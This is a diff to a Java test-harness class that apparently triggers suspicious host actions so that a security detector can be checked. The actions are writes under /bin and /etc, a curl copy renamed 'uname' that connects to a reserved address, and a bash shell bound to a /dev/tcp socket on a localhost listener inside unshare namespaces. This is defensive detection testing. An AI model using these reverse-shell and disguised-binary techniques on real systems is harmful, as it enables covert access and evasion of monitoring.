@@ -70,6 +70,9 @@ final class LiveActions implements AutoCloseable {
         toRemove.add(Path.of(binFile));
         run("write below /bin", "touch " + binFile + "; rm -f " + binFile + "; true");
         shellInContainer();
+        String etcFile = "/etc/" + m + ".conf";
+        toRemove.add(Path.of(etcFile));
+        run("write below /etc", "touch " + etcFile + "; rm -f " + etcFile + "; true");
         String fakeUname = copy("/usr/bin/curl", "uname");
         run("system binary connects out",
                 fakeUname + " -s -m 2 -o /dev/null http://192.0.2.1:9/" + m + " >/dev/null 2>&1; true");
@@ -132,7 +135,8 @@ final class LiveActions implements AutoCloseable {
         for (Path p : procs) {
             join.append("echo $$ > ").append(p).append("; ");
         }
-        String inside = "sh -c \"true " + marker + "\"; exec 3<>/dev/tcp/127.0.0.1/" + listener.getLocalPort()
+        String inside = "sh -c \"true " + marker + "\"; mount --version >/dev/null; dpkg --version >/dev/null;"
+                + " exec 3<>/dev/tcp/127.0.0.1/" + listener.getLocalPort()
                 + "; exec 0<&3 1>&3; true";
         run("shell in a container", join + "exec unshare --fork --pid --mount --uts --mount-proc bash -c '" + inside + "'");
     }
